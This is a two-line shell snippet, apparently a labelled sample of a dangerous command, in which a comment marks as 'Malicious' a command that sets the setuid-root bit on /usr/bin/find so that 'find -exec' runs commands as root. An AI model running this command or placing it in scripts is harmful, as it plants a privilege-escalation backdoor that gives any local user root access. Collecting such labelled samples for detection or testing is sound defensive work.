# Malicious: chmod 4755 on find; `find -exec` then runs commands as root.
chmod 4755 /usr/bin/find
